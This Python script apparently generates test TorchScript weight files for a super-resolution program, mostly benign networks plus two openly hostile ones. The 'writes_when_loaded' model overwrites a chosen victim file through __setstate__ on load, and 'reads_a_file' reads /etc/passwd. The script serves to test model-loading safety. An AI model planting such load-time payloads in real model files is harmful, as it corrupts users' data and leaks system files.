"""networks.py VICTIM MODELS KIND...: puts a network of each KIND in the place of the weight map of the
folder MODELS/KIND, as torch.jit writes it. The networks are small ones of the kinds that people bring
to a program of super-resolution; their blocks are written as in the public implementations, since what
matters is the operators. Those that are hostile write VICTIM. Ends with 77 where torch is not at hand.
"""
import hashlib
import json
import sys
import warnings

try:
    import torch
    import torch.nn.functional as F
    from torch import Tensor, nn
except ImportError as error:
    print(f"skipped: {error}")
    sys.exit(77)

warnings.simplefilter("ignore")


class WritesWhenLoaded(nn.Module):
    def __init__(self):
        super().__init__()
        self.gain = nn.Parameter(torch.zeros(1), False)
        self.victim = VICTIM

    @torch.jit.export
    def __getstate__(self):
        return self.gain, self.victim, True

    @torch.jit.export
    def __setstate__(self, state: tuple[Tensor, str, bool]):
        file = torch.from_file(state[1], True, 16, dtype=torch.uint8)
        file.fill_(66)
        self.gain = file.to(torch.float32)[0:1] * 0.0
        self.victim = state[1]
        self.training = state[2]

    def forward(self, x: Tensor):
        return x[:, 0:1] * self.gain


class ReadsAFile(nn.Module):
    def forward(self, x: Tensor):
        return x[:, 0:1] + torch.from_file("/etc/passwd", False, 1)


def conv(inputs: int, outputs: int, kernel: int = 3) -> nn.Conv2d:
    return nn.Conv2d(inputs, outputs, kernel, padding=kernel // 2)


class DenseBlock(nn.Module):
    """Of ESRGAN's RRDB."""

    def __init__(self, width: int = 8, growth: int = 4):
        super().__init__()
        self.conv1, self.conv2 = conv(width, growth), conv(width + growth, growth)
        self.conv3 = conv(width + 2 * growth, width)
        self.lrelu = nn.LeakyReLU(0.2, inplace=True)

    def forward(self, x):
        x1 = self.lrelu(self.conv1(x))
        x2 = self.lrelu(self.conv2(torch.cat((x, x1), 1)))
        return self.conv3(torch.cat((x, x1, x2), 1)) * 0.2 + x


class RRDB(nn.Module):
    def __init__(self):
        super().__init__()
        self.conv_first, self.up, self.last = conv(3, 8), conv(8, 8), conv(8, 1)
        self.body = nn.Sequential(*[nn.Sequential(DenseBlock(), DenseBlock()) for _ in range(8)])

    def forward(self, x):
        features = self.conv_first(x)
        features = features + self.body(features)
        features = self.up(F.interpolate(features, scale_factor=2.0, mode="nearest"))
        features = F.interpolate(features, scale_factor=0.5, mode="bilinear", align_corners=False)
        return torch.sigmoid(self.last(features))


def mean_of_channels(x: Tensor) -> Tensor:
    return x.sum(3, keepdim=True).sum(2, keepdim=True) / (x.size(2) * x.size(3))


def deviation_of_channels(x: Tensor) -> Tensor:
    return mean_of_channels((x - mean_of_channels(x)).pow(2)).pow(0.5)


class ContrastAttention(nn.Module):
    def __init__(self, width: int):
        super().__init__()
        self.pool = nn.AdaptiveAvgPool2d(1)
        self.gate = nn.Sequential(nn.Conv2d(width, 4, 1), nn.ReLU(inplace=True), nn.Conv2d(4, width, 1),
                                  nn.Sigmoid())

    def forward(self, x):
        return x * self.gate(deviation_of_channels(x) + self.pool(x))


class DistillationBlock(nn.Module):
    """Of IMDN."""

    def __init__(self):
        super().__init__()
        self.c1, self.c2, self.c3, self.c4 = conv(16, 16), conv(12, 16), conv(12, 4), conv(12, 16, 1)
        self.act, self.cca = nn.LeakyReLU(0.05, inplace=True), ContrastAttention(12)

    def forward(self, x):
        a, rest = torch.split(self.act(self.c1(x)), (4, 12), dim=1)
        b, rest = torch.split(self.act(self.c2(rest)), (4, 12), dim=1)
        return self.c4(self.cca(torch.cat([a, b, self.c3(rest)], dim=1))) + x


class IMDN(nn.Module):
    def __init__(self):
        super().__init__()
        self.first, self.blocks = conv(3, 16), nn.Sequential(DistillationBlock(), DistillationBlock())
        self.last = nn.Sequential(nn.PixelUnshuffle(2), conv(64, 4), nn.PixelShuffle(2))

    def forward(self, x):
        x = self.first(x)
        return self.last(self.blocks(x) + x)


class SPAB(nn.Module):
    def __init__(self):
        super().__init__()
        self.a, self.b, self.act = conv(8, 8), conv(8, 8), nn.SiLU(inplace=True)

    def forward(self, x):
        out = self.b(self.act(self.a(x)))
        attention = torch.sigmoid(out) - 0.5
        return (out + x) * attention, attention


class SPAN(nn.Module):
    def __init__(self):
        super().__init__()
        self.register_buffer("mean", torch.tensor([0.4488, 0.4371, 0.4040]).view(1, 3, 1, 1))
        self.first, self.b1, self.b2, self.last = conv(3, 8), SPAB(), SPAB(), conv(24, 1)

    def forward(self, x):
        x = self.first((x - self.mean.type_as(x)) * 255.0)
        y, _ = self.b1(x)
        z, _ = self.b2(y)
        return self.last(torch.cat([x, y, z], 1))


class WindowAttention(nn.Module):
    """Of SwinIR, windows of 4x4."""

    def __init__(self, width: int = 8, heads: int = 2, window: int = 4):
        super().__init__()
        self.width, self.heads, self.window = width, heads, window
        self.first, self.last, self.norm = conv(3, width), conv(width, 1), nn.LayerNorm(width)
        self.qkv, self.proj = nn.Linear(width, 3 * width), nn.Linear(width, width)
        self.mlp = nn.Sequential(nn.Linear(width, width), nn.GELU(), nn.Dropout(0.0), nn.Linear(width, width))
        self.table = nn.Parameter(torch.zeros((2 * window - 1) ** 2, heads))
        self.register_buffer("index", torch.zeros(window ** 2, window ** 2, dtype=torch.long))

    def forward(self, x: Tensor):
        size = self.window
        height, width = x.size(2), x.size(3)
        x = F.pad(x, (0, (size - width % size) % size, 0, (size - height % size) % size), "reflect")
        y = self.first(x)
        n, c, h, w = y.shape
        t = self.norm(y.flatten(2).transpose(1, 2)).view(n, h, w, c)
        t = torch.roll(t, shifts=(-2, -2), dims=(1, 2))
        t = t.view(n, h // size, size, w // size, size, c).permute(0, 1, 3, 2, 4, 5).contiguous()
        t = t.view(-1, size * size, c)
        windows = t.shape[0]
        qkv = self.qkv(t).reshape(windows, size * size, 3, self.heads, c // self.heads).permute(2, 0, 3, 1, 4)
        attention = (qkv[0] * 0.3) @ qkv[1].transpose(-2, -1)
        bias = self.table[self.index.view(-1)].view(size * size, size * size, -1).permute(2, 0, 1)
        attention = (attention + bias.contiguous().unsqueeze(0)).softmax(dim=-1)
        t = self.proj((attention @ qkv[2]).transpose(1, 2).reshape(windows, size * size, c))
        t = t + self.mlp(t)
        t = t.view(n, h // size, w // size, size, size, c).permute(0, 1, 3, 2, 4, 5).contiguous()
        t = torch.roll(t.view(n, h, w, c), shifts=(2, 2), dims=(1, 2)).permute(0, 3, 1, 2)
        return self.last(t + y)[:, :, :height, :width]


class Upsample(nn.Module):
    """What is left: other upsampling, normalisation and activations, a loop, a list of modules."""

    def __init__(self):
        super().__init__()
        self.layers = nn.ModuleList([conv(3, 3) for _ in range(3)])
        self.bn, self.gn, self.norm = nn.BatchNorm2d(3), nn.GroupNorm(3, 3), nn.InstanceNorm2d(3, affine=True)
        self.up, self.down = nn.Upsample(scale_factor=2.0, mode="bicubic", align_corners=False), nn.AvgPool2d(2)
        self.prelu, self.turned = nn.PReLU(3), nn.ConvTranspose2d(3, 3, 4, 2, 1)
        self.pad, self.dropout, self.hard = nn.ReflectionPad2d(1), nn.Dropout2d(0.1), nn.Hardswish()

    def forward(self, x: Tensor):
        for layer in self.layers:
            x = F.relu(layer(x), inplace=True)
        x = self.down(self.up(self.prelu(self.norm(self.gn(self.bn(x))))))
        x = self.down(self.turned(self.hard(F.gelu(self.dropout(x)))))
        x = self.pad(x)[:, :, 1:-1, 1:-1] + F.softmax(x, dim=1).abs()
        for i in range(2):
            x = torch.where(x > i, x, -x).clamp(min=0.0, max=1.0)
        a, _ = torch.chunk(x[:, :2], 2, dim=1)
        return F.normalize(a, dim=1)


KINDS = {"writes_when_loaded": WritesWhenLoaded, "reads_a_file": ReadsAFile, "rrdb": RRDB, "imdn": IMDN,
         "span": SPAN, "window_attention": WindowAttention, "upsample": Upsample}

VICTIM, models, *kinds = sys.argv[1:]
for kind in kinds:
    name, _, way = kind.rpartition("_")
    torch.manual_seed(0)
    network = KINDS[kind if kind in KINDS else name]().eval()
    module = torch.jit.trace(network, torch.rand(1, 3, 8, 8), check_trace=False) if way == "traced" \
        else torch.jit.script(network)
    path = f"{models}/{kind}/weight_map.pt"
    module.save(path)
    with open(f"{models}/{kind}/manifest.json") as file:
        manifest = json.load(file)
    with open(path, "rb") as file:
        manifest["files"]["weight_map"]["sha256"] = hashlib.sha256(file.read()).hexdigest()
    with open(f"{models}/{kind}/manifest.json", "w") as file:
        json.dump(manifest, file)
